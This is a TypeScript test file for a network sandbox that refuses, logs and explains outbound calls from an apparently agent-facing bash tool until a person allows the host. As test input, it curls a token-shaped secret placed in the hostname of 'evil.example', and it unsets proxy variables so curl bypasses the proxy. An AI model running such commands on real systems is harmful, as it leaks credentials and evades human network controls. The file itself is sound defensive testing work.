import { realpathSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Answer, CTXD, type Finished, type Installation, install } from '../helpers/installation.ts';

interface Denied {
  kind: string;
  host?: string;
  port?: number;
  rule: string;
  how_to_allow: string;
}

/** Asks for a host without the proxy variables, as many programs do. */
const look = (host: string): string => `env -u HTTPS_PROXY -u https_proxy curl -sS -m 5 https://${host}/`;

describe('a call that asks for a host which nobody allowed', () => {
  let at: Installation;

  beforeAll(async () => {
    at = await install({ warm: true });
  });
  afterAll(() => at.remove());

  const ctxd = (...words: string[]): Promise<Finished> => at.run(CTXD, words, { cwd: at.project });
  const bash = (command: string, more: object = {}): Promise<Answer> => at.ask('safe_bash', { command, ...more });
  const deniedOf = ({ meta }: Answer): Denied[] =>
    ((meta.denied ?? []) as Denied[]).filter(({ kind }) => kind === 'network');
  const newest = async (): Promise<Record<string, unknown>> =>
    JSON.parse((await ctxd('audit', 'tail', '-n', '1', '--json')).stdout)[0];

  it('is refused at once; the answer names host, port, and the command of a person that allows it', async () => {
    const answer = await bash('curl -sS https://registry.npmjs.org/x https://a.example:8443/');
    expect(deniedOf(answer)).toEqual([
      {
        kind: 'network',
        host: 'registry.npmjs.org',
        port: 443,
        rule: 'nobody has decided yet what this project may reach; only a person can',
        how_to_allow:
          'A person can allow it: ctxd network allow registry.npmjs.org, or ctxd network allow npm for its whole group',
      },
      expect.objectContaining({
        host: 'a.example',
        port: 8443,
        how_to_allow: 'A person can allow it: ctxd network allow a.example:8443',
      }),
    ]);
  });

  it('has its connections in its audit record and in the log', async () => {
    const { meta } = await bash('curl -sS https://b.example/');
    expect(await newest()).toMatchObject({
      request_id: meta.request_id,
      connections: [{ host: 'b.example', port: 443, via: 'connect', verdict: 'denied', up: 0, down: 0 }],
    });
    const entries = JSON.parse((await ctxd('network', 'log', '--project', '--denied', '--json')).stdout);
    expect(entries.at(-1)).toMatchObject({
      host: 'b.example',
      port: 443,
      verdict: 'denied',
      request_id: meta.request_id,
      project: realpathSync(at.project),
    });
  });

  it('reports a refused look-up of a program that ignores the proxy variables, in text in one line', async () => {
    const answer = await bash(look('c.example'));
    expect(deniedOf(answer)).toMatchObject([{ host: 'c.example' }]);
    const { stderr } = await at.run('.claude/bin/safe_bash', [look('c.example')]);
    expect(stderr).toMatch(
      /^\[contextd denied: network c\.example \(.+\)\. A person can allow it: ctxd network allow c\.example\]$/m,
    );
  });

  it('says in a time-out that it asked for a refused host', async () => {
    const { error, data } = await bash('until curl -s https://d.example; do sleep 0.1; done', { timeout_ms: 1500 });
    expect(error).toMatch(
      /^the command did not finish within 1500 ms .*; it asked for d\.example:443, which is refused$/,
    );
    expect(data.remediation).toMatch(/^A person can allow it: ctxd network allow d\.example\. A larger timeout_ms/);
  });

  it('says in a time-out that the network is off, unless the command was busy or the network is on', async () => {
    const NOTICE = /^the network of this project is off: .* `ctxd network on`$/;
    const warnings = async (command: string): Promise<unknown> =>
      (await bash(command, { timeout_ms: 1500 })).meta.warnings;
    const retries = 'until curl -s https://d.example; do sleep 5; done';
    const isBusy = 'while :; do :; done';
    await ctxd('network', 'off', '--yes');
    expect(await warnings(retries)).toEqual([expect.stringMatching(NOTICE)]);
    expect(await warnings(isBusy)).toBeUndefined();
    await ctxd('network', 'on', '--yes');
    expect(await warnings(retries)).toBeUndefined();
  });

  it('of a job is in the next answer of its session, once, and in the record of the job', async () => {
    const env = { CONTEXTD_SESSION_ID: 'with-a-job' };
    await at.ask('safe_bash', { command: 'curl -sS https://e.example', background: true }, { env });
    const waited = await at.ask('jobs', { action: 'wait', job: 1 }, { env });
    const next = await at.ask('safe_bash', { command: 'true' }, { env });
    expect([waited, next].flatMap(deniedOf)).toMatchObject([{ host: 'e.example', port: 443 }]);
    const records = JSON.parse((await ctxd('audit', 'tail', '-n', '10', '--json')).stdout);
    expect(records).toContainEqual(
      expect.objectContaining({ job: 1, connections: [expect.objectContaining({ host: 'e.example' })] }),
    );
  });

  it('is not told that nobody has decided once somebody has', async () => {
    await ctxd('network', 'allow', 'f.example.com', '--yes');
    expect(deniedOf(await bash('curl -sS https://g.example/'))).toMatchObject([
      { host: 'g.example', rule: 'no rule of this project allows it' },
    ]);
  });

  it('puts no secret of a name into the log or the audit record', async () => {
    const secret = `ghp_${'aB3'.repeat(12)}`;
    await bash(`curl -sS https://${secret}.evil.example/`);
    expect((await ctxd('network', 'log', '--json')).stdout.toLowerCase()).not.toContain(secret.toLowerCase());
    expect(JSON.stringify((await newest()).connections).toLowerCase()).not.toContain(secret.toLowerCase());
  });

  it('names the denial of a person, and how it is taken back', async () => {
    await ctxd('network', 'deny', 'i.example.com', '--yes');
    expect(deniedOf(await bash('curl -sS https://i.example.com/'))).toMatchObject([
      {
        rule: 'the rule i.example.com denies it',
        how_to_allow: 'A person can take the denial back: ctxd network remove i.example.com',
      },
    ]);
  });

  it('uses up a permission for one call, also one that leads nowhere', async () => {
    await ctxd('network', 'allow', 'h.example.com', '--once', '--yes');
    const first = deniedOf(await bash('curl -sS https://h.example.com/'));
    expect(first.filter(({ how_to_allow }) => how_to_allow.includes('ctxd network allow'))).toEqual([]);
    expect(deniedOf(await bash('curl -sS https://h.example.com/'))).toMatchObject([
      { host: 'h.example.com', how_to_allow: expect.stringContaining('ctxd network allow') },
    ]);
  });
});
